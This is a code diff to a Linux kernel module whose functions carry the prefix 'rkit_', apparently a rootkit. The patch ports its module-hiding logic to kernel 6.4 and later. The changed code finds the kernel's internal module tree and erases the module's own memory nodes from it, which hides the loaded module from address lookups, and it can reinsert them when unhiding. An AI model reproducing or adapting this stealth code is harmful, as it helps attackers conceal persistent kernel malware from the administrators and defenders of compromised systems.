@@ -29,6 +29,7 @@
 #include <linux/module.h>
 #include <linux/rbtree_latch.h>
 #include <linux/rculist.h>
+#include <linux/version.h>
 
 static unsigned long __maybe_unused rkit_lookup(const char *name)
 {
@@ -123,10 +124,33 @@ static void __maybe_unused rkit_unhide(void)
 
 static struct latch_tree_root *rkit_mod_tree;	/* mod_tree's first member */
 
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+/* 6.4+: a node per kind of module memory (mem[]), each in the tree */
+static __always_inline struct module_memory *rkit_mtn_mem(struct latch_tree_node *n)
+{
+	return container_of(n, struct module_memory, mtn.node);
+}
+
+static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
+{
+	return (unsigned long)rkit_mtn_mem(n)->base;
+}
+
+static __always_inline unsigned long rkit_mtn_size(struct latch_tree_node *n)
+{
+	return rkit_mtn_mem(n)->size;
+}
+#else
 static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
 {
 	return (unsigned long)container_of(n, struct mod_tree_node, node)->mod->core_layout.base;
 }
+
+static __always_inline unsigned long rkit_mtn_size(struct latch_tree_node *n)
+{
+	return container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
+}
+#endif
 
 static __always_inline bool rkit_mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
 {
@@ -139,7 +163,7 @@ static __always_inline int rkit_mtn_comp(void *key, struct latch_tree_node *n)
 
 	if (v < s)
 		return -1;
-	return v >= s + container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
+	return v >= s + rkit_mtn_size(n);
 }
 
 static const struct latch_tree_ops rkit_mtn_ops = {
@@ -152,14 +176,26 @@ static int __maybe_unused rkit_tree_erase(void)
 	rkit_mod_tree = rkit_find_mod_tree();
 	if (!rkit_mod_tree)
 		return -ENOENT;
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	for (int t = MOD_TEXT; t <= MOD_RO_AFTER_INIT; t++)	/* the core kinds */
+		if (THIS_MODULE->mem[t].size)
+			latch_tree_erase(&THIS_MODULE->mem[t].mtn.node, rkit_mod_tree, &rkit_mtn_ops);
+#else
 	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
+#endif
 	return 0;
 }
 
 static void __maybe_unused rkit_tree_insert(void)
 {
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	for (int t = MOD_TEXT; rkit_mod_tree && t <= MOD_RO_AFTER_INIT; t++)
+		if (THIS_MODULE->mem[t].size)
+			latch_tree_insert(&THIS_MODULE->mem[t].mtn.node, rkit_mod_tree, &rkit_mtn_ops);
+#else
 	if (rkit_mod_tree)
 		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
+#endif
 	rkit_mod_tree = NULL;
 }
 
